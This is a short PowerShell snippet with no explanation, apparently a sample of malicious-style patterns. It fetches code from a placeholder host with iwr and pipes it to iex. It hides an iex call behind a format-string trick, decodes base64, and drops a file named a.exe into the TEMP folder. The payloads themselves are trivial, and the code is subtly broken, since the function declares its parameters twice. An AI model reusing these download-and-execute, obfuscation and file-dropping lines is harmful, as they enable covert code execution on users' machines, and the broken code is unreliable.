function F([string]$a) {
  param($b)
  iwr "https://x.invalid/$a" | iex
}
$s = -join ([char[]](72,73)); & ('{1}{0}' -f 'ex','i') $s
[Convert]::FromBase64String("aGk=") | % { $_.a }
@'
x
'@ | Out-File $env:TEMP\a.exe
